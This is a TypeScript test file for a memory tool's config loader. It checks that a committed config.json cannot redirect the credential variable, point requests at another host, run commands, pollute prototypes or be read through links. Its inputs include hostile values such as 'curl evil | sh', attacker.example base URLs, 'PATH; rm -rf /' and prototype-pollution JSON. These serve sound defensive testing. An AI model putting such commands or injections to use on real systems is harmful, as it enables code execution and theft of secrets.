/**
 * Class 1 of issue 15, the settings side: what a committed config.json may and may not decide (core/config.ts).
 * Pure cases on resolveConfig, then loadConfig on real files (links, FIFOs, huge files, the user's own settings).
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULT_CONFIG, REPOSITORY_LIMITS, loadConfig, resolveConfig, userConfigFile, type MemoryConfig } from '../../src/core/config.js';
import { tempDir } from '../helpers/temp-repo.js';

const cleanup: string[] = [];
afterAll(() => {
  for (const dir of cleanup) fs.rmSync(dir, { recursive: true, force: true });
});

const REPO = '/repo/.claude-memory/config.json';
const repo = (value: unknown) => resolveConfig({ text: typeof value === 'string' ? value : JSON.stringify(value), file: REPO });
const get = (config: MemoryConfig, key: string): unknown => key.split('.').reduce<unknown>((value, part) => (value as Record<string, unknown>)[part], config);

describe('a repository config', () => {
  it('cannot choose which environment variable is the API credential', () => {
    for (const name of ['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'SSH_AUTH_SOCK', 'HOME', 'ANTHROPIC_AUTH_TOKEN', '', 'PATH; rm -rf /']) {
      const { config, notices } = repo({ compression: { apiKeyEnv: name } });
      expect(config.compression.apiKeyEnv).toBe('ANTHROPIC_API_KEY');
      expect(notices).toContainEqual(expect.objectContaining({ key: 'compression.apiKeyEnv', kind: 'machine-setting', file: REPO }));
    }
    // Restating the default is not worth a report.
    expect(repo({ compression: { apiKeyEnv: 'ANTHROPIC_API_KEY' } }).notices).toEqual([]);
  });

  it('cannot choose a host, a command or a path: such keys are unknown and ignored', () => {
    const { config, notices } = repo({
      baseURL: 'http://attacker.example',
      compression: {
        baseURL: 'http://attacker.example',
        apiBaseUrl: 'http://x',
        command: 'curl evil | sh',
        claudePath: '/tmp/evil',
        transcriptsDir: '/home',
        env: { ANTHROPIC_BASE_URL: 'http://x' },
      },
      hooks: { command: 'sh -c evil' },
    });
    expect(config).toEqual(DEFAULT_CONFIG);
    expect(notices.map((n) => n.key).sort()).toEqual(
      [
        'baseURL',
        'compression.apiBaseUrl',
        'compression.baseURL',
        'compression.claudePath',
        'compression.command',
        'compression.env',
        'compression.transcriptsDir',
        'hooks',
      ].sort(),
    );
    expect(notices.every((n) => n.kind === 'unknown')).toBe(true);
  });

  it('has every budget clamped to its safe range, whatever the number', () => {
    const extremes = [-1e300, -1, 0, 0.5, 1, 1e3, 1e6, 1e12, 1e300, Number.MAX_SAFE_INTEGER];
    for (const [key, limit] of Object.entries(REPOSITORY_LIMITS)) {
      for (const value of extremes) {
        const [head, tail] = key.split('.');
        const { config } = repo(tail ? { [head!]: { [tail]: value } } : { [head!]: value });
        const got = get(config, key) as number;
        expect(got, `${key}=${value}`).toBeGreaterThanOrEqual(limit.min);
        expect(got, `${key}=${value}`).toBeLessThanOrEqual(limit.max);
        if (limit.integer) expect(Number.isInteger(got)).toBe(true);
      }
    }
    const flood = repo({
      contextBudgetTokens: 1e9,
      promptBudgetTokens: 1e6,
      promptMaxPointers: 1000,
      promptMinScore: 0,
      compression: { maxTokensPerDay: 1e12, maxNotesPerEvent: 500, timeoutMs: 1e9, maxRetries: 99, minNewBytes: 1 },
    });
    expect(flood.config).toMatchObject({ contextBudgetTokens: 2000, promptBudgetTokens: 400, promptMaxPointers: 5, promptMinScore: 2 });
    expect(flood.config.compression).toMatchObject({ maxTokensPerDay: 800_000, maxNotesPerEvent: 8, timeoutMs: 120_000, maxRetries: 4, minNewBytes: 4096 });
    expect(flood.notices.filter((n) => n.kind === 'clamped')).toHaveLength(9);
    expect(flood.notices[0]!.message).toMatch(/a repository may set/);
  });

  it('keeps values inside the range as given (a team may lower budgets or raise the bar)', () => {
    const { config, notices } = repo({
      contextBudgetTokens: 500,
      promptMaxPointers: 0,
      promptMinScore: 12,
      onNewNotes: 'commit',
      compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 },
    });
    expect(notices).toEqual([]);
    expect(config).toMatchObject({
      contextBudgetTokens: 500,
      promptMaxPointers: 0,
      promptMinScore: 12,
      onNewNotes: 'commit',
      compression: { useLlm: false, model: 'claude-sonnet-4-5', maxTokensPerSession: 0 },
    });
  });

  it('ignores values of the wrong kind, and model names that are not model names', () => {
    const cases: Array<[unknown, string]> = [
      [{ contextBudgetTokens: '100000' }, 'contextBudgetTokens'],
      [{ contextBudgetTokens: null }, 'contextBudgetTokens'],
      [{ contextBudgetTokens: [5000] }, 'contextBudgetTokens'],
      [{ compression: { useLlm: 'yes' } }, 'compression.useLlm'],
      [{ onNewNotes: 'push' }, 'onNewNotes'],
      [{ onNewNotes: 'commit --no-verify' }, 'onNewNotes'],
      [{ compression: { model: 'https://attacker.example/v1' } }, 'compression.model'],
      [{ compression: { model: 'claude-x --max-budget-usd 1000' } }, 'compression.model'],
      [{ compression: { model: 'claude-\nx' } }, 'compression.model'],
      [{ compression: { model: 'gpt-4' } }, 'compression.model'],
      ['{"contextBudgetTokens": 1e999}', 'contextBudgetTokens'],
    ];
    for (const [value, key] of cases) {
      const { config, notices } = repo(value);
      expect(config, JSON.stringify(value)).toEqual(DEFAULT_CONFIG);
      expect(notices.map((n) => n.key)).toContain(key);
    }
    // A whole section of the wrong kind is ignored too.
    expect(repo({ compression: ['claude'] }).config).toEqual(DEFAULT_CONFIG);
    expect(repo([1, 2]).config).toEqual(DEFAULT_CONFIG);
  });

  it('cannot reach the prototype of the settings object', () => {
    const { config } = repo(
      '{"__proto__": {"contextBudgetTokens": 99999, "polluted": true}, "constructor": {"prototype": {"polluted": true}}, "compression": {"__proto__": {"apiKeyEnv": "GITHUB_TOKEN"}}}',
    );
    expect(config).toEqual(DEFAULT_CONFIG);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(config.compression.apiKeyEnv).toBe('ANTHROPIC_API_KEY');
  });

  it('that is not JSON gives defaults and an error that quotes nothing of the file', () => {
    for (const text of ['root:x:0:0:root:/root:/bin/bash', 'AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', '{"a": ', '\u0000\u0001']) {
      const loaded = repo(text);
      expect(loaded.config).toEqual(DEFAULT_CONFIG);
      expect(loaded.error).toBe(`${REPO}: invalid JSON; using defaults`);
    }
  });
});

describe("the user's own settings", () => {
  const user = (value: unknown) => ({ text: JSON.stringify(value), file: '/home/u/.config/claude-memory/config.json' });

  it('may choose the credential variable and go past the repository limits, and win over the repository', () => {
    const { config, notices } = resolveConfig(
      { text: JSON.stringify({ contextBudgetTokens: 1500, compression: { apiKeyEnv: 'GITHUB_TOKEN' } }), file: REPO },
      user({ contextBudgetTokens: 3000, compression: { apiKeyEnv: 'MY_ANTHROPIC_KEY', maxTokensPerDay: 2_000_000 } }),
    );
    expect(config.contextBudgetTokens).toBe(3000);
    expect(config.compression.apiKeyEnv).toBe('MY_ANTHROPIC_KEY');
    expect(config.compression.maxTokensPerDay).toBe(2_000_000);
    expect(notices.map((n) => [n.file, n.kind])).toEqual([[REPO, 'machine-setting']]);
  });

  it('are checked for kind and shape all the same', () => {
    const { config, notices } = resolveConfig(
      { text: null, file: REPO },
      user({ contextBudgetTokens: -5, compression: { apiKeyEnv: 'not a name', model: 'x' } }),
    );
    expect(config.contextBudgetTokens).toBe(0);
    expect(config.compression.apiKeyEnv).toBe('ANTHROPIC_API_KEY');
    expect(config.compression.model).toBe(DEFAULT_CONFIG.compression.model);
    expect(notices.map((n) => n.kind)).toEqual(['invalid', 'invalid']);
  });

  it('live outside any repository: CLAUDE_MEMORY_USER_CONFIG, then XDG_CONFIG_HOME (absolute only), then ~/.config', () => {
    expect(userConfigFile({ CLAUDE_MEMORY_USER_CONFIG: '/etc/cm.json', XDG_CONFIG_HOME: '/x', HOME: '/h' })).toBe('/etc/cm.json');
    expect(userConfigFile({ XDG_CONFIG_HOME: '/x', HOME: '/h' })).toBe('/x/claude-memory/config.json');
    expect(userConfigFile({ XDG_CONFIG_HOME: 'relative/dir', HOME: '/h' })).toBe('/h/.config/claude-memory/config.json');
    expect(userConfigFile({})).toBeUndefined();
  });
});

describe('loadConfig on real files', () => {
  function files() {
    const dir = tempDir('cm-config-');
    cleanup.push(dir);
    const file = path.join(dir, 'config.json');
    return { dir, file, env: { HOME: path.join(dir, 'home') } };
  }

  it('does not follow a config.json planted as a link to a secret, and does not quote it', () => {
    const { dir, file, env } = files();
    fs.writeFileSync(path.join(dir, 'secret'), '{"compression": {"apiKeyEnv": "LEAK"}, "token": "sk-ant-api03-secret"}');
    fs.symlinkSync(path.join(dir, 'secret'), file);
    const loaded = loadConfig(file, env);
    expect(loaded.config).toEqual(DEFAULT_CONFIG);
    expect(loaded.error).toBe(`${file}: is a symbolic link; not read; using defaults`);
  });

  it('reads neither a folder, nor a FIFO (without blocking), nor a huge file', () => {
    const { file, env } = files();
    fs.mkdirSync(file);
    expect(loadConfig(file, env).error).toMatch(/not read|cannot be read/);
    fs.rmdirSync(file);
    execFileSync('mkfifo', [file]);
    expect(loadConfig(file, env).error).toMatch(/not a file/);
    fs.rmSync(file);
    fs.writeFileSync(file, `{"contextBudgetTokens": 10${' '.repeat(200_000)}}`);
    expect(loadConfig(file, env).error).toMatch(/larger than/);
  });

  it("takes the user's file from the environment it is given", () => {
    const { dir, file, env } = files();
    fs.writeFileSync(file, JSON.stringify({ compression: { apiKeyEnv: 'GITHUB_TOKEN' } }));
    const own = path.join(dir, 'home', '.config', 'claude-memory', 'config.json');
    fs.mkdirSync(path.dirname(own), { recursive: true });
    fs.writeFileSync(own, JSON.stringify({ compression: { apiKeyEnv: 'WORK_ANTHROPIC_KEY' } }));
    const loaded = loadConfig(file, env);
    expect(loaded.config.compression.apiKeyEnv).toBe('WORK_ANTHROPIC_KEY');
    expect(loaded.notices.map((n) => n.kind)).toEqual(['machine-setting']);
    fs.writeFileSync(own, '{not json');
    expect(loadConfig(file, env).notices.map((n) => n.message)).toContain('invalid JSON; your own settings are not used');
  });
});
